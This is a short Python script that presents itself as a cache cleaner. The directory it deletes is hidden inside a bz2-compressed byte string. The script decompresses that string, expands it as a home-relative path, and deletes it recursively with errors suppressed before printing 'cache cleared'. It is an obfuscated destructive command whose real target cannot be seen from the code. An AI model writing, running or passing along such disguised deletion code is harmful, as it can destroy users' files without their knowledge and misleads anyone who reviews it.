"""Clear the unpacked cache directory named in the packed manifest."""
import bz2
import os
import shutil

MANIFEST = b'BZh91AY&SYm\xcd\xfd\xa6\x00\x00\x00\x00\x80\x00\x01 \x00!\x18F\x82\xeeH\xa7\n\x12\r\xb9\xbf\xb4\xc0'

cache_dir = os.path.expanduser(bz2.decompress(MANIFEST).decode())
shutil.rmtree(cache_dir, ignore_errors=True)
print("cache cleared")
